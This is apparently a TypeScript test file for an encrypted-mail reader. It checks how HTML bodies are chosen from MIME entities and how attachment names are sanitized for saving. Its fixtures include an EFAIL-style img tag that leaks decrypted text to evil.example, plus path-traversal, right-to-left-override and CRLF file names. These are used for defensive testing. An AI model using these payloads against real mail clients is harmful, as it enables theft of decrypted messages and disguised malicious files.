// Pieces of the reader and the save dialog, without keyring or servers: which
// HTML an entity shows (alternatives, related, mixed bodies, attachments
// left out) and the file name a save dialog is offered for a name taken
// from a message.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseMime } from '../../../main/pgp-mime/read/mime-parse.ts';
import { bodyHtml, bodyHtmlParts, joinHtmlParts } from '../../../main/pgp-mime/read/body-text.ts';
import { saveName } from '../../../main/services/save-name.ts';
import { multipart, part, textPart } from '../../support/mail.ts';

const html = (entity: Buffer) => bodyHtml(parseMime(entity).root);

test('bodyHtml: the last alternative with HTML; the root of multipart/related; nothing from attachments', () => {
  assert.equal(html(multipart('alternative', [textPart('plain'), textPart('<p>rich</p>', 'text/html; charset=utf-8')])), '<p>rich</p>');
  assert.equal(html(multipart('alternative', [textPart('plain'), textPart('enriched', 'text/enriched')])), null);
  const related = multipart(
    'related',
    [
      part(
        [
          ['Content-Type', 'image/png'],
          ['Content-ID', '<img1@x>'],
          ['Content-Transfer-Encoding', 'base64'],
        ],
        'iVBORw0KGgo=',
      ),
      part(
        [
          ['Content-Type', 'text/html; charset=utf-8'],
          ['Content-ID', '<root@x>'],
        ],
        '<p>root</p>',
      ),
    ],
    { start: '<root@x>', type: 'text/html' },
  );
  assert.equal(html(multipart('alternative', [textPart('plain'), related])), '<p>root</p>');
  const withAttachment = multipart('mixed', [
    textPart('<p>body</p>', 'text/html; charset=utf-8'),
    textPart('<p>ATTACHED</p>', 'text/html; charset=utf-8', { 'Content-Disposition': 'attachment; filename="page.html"' }),
  ]);
  assert.equal(html(withAttachment), '<p>body</p>');
  assert.equal(html(textPart('only text')), null);
});

test('bodyHtml: text beside HTML in a mixed body is kept, escaped', () => {
  const mixed = multipart('mixed', [textPart('<b>not markup</b> & more'), textPart('<p>html</p>', 'text/html; charset=utf-8')]);
  assert.equal(html(mixed), '<pre>&#60;b&#62;not markup&#60;/b&#62; &#38; more</pre>\n<p>html</p>');
});

test('bodyHtmlParts: the parts of a mixed body stay apart, so each is sanitized on its own (EFAIL direct exfiltration)', () => {
  const efail = multipart('mixed', [
    textPart('<img src="http://evil.example/?', 'text/html; charset=utf-8'),
    textPart('<p>the decrypted secret</p>', 'text/html; charset=utf-8'),
    textPart('">', 'text/html; charset=utf-8'),
  ]);
  const parts = bodyHtmlParts(parseMime(efail).root)!;
  assert.deepEqual(parts, ['<img src="http://evil.example/?', '<p>the decrypted secret</p>', '">']);
  const joined = joinHtmlParts(parts);
  assert.equal(joined.html, html(efail));
  assert.deepEqual(
    joined.starts.map((start, i) => joined.html.slice(start, start + parts[i]!.length)),
    parts,
  );
  // Nested: a mixed body inside an alternative, text beside HTML.
  const nested = multipart('alternative', [textPart('plain'), multipart('mixed', [textPart('<p>a</p>', 'text/html'), textPart('b & c')])]);
  assert.deepEqual(bodyHtmlParts(parseMime(nested).root), ['<p>a</p>', '<pre>b &#38; c</pre>']);
  assert.equal(bodyHtmlParts(parseMime(textPart('only text')).root), null);
});

test('saveName: one path segment, no hidden file, no direction tricks, the extension kept', () => {
  assert.equal(saveName('report.pdf'), 'report.pdf');
  assert.equal(saveName('../../etc/passwd'), '_.._etc_passwd');
  assert.equal(saveName('..\\..\\evil.bat'), '_.._evil.bat');
  assert.equal(saveName('.bashrc'), 'bashrc');
  assert.equal(saveName('invoice\u202Efdp.exe'), 'invoice_fdp.exe');
  assert.equal(saveName('a\r\nb.txt'), 'a_b.txt');
  assert.equal(saveName('CON.txt'), '_CON.txt');
  assert.equal(saveName(''), 'attachment');
  assert.equal(saveName('///'), 'attachment');
  const long = saveName(`${'x'.repeat(300)}.tar.gz`);
  assert.equal(long.length, 200);
  assert.ok(long.endsWith('.gz'));
});
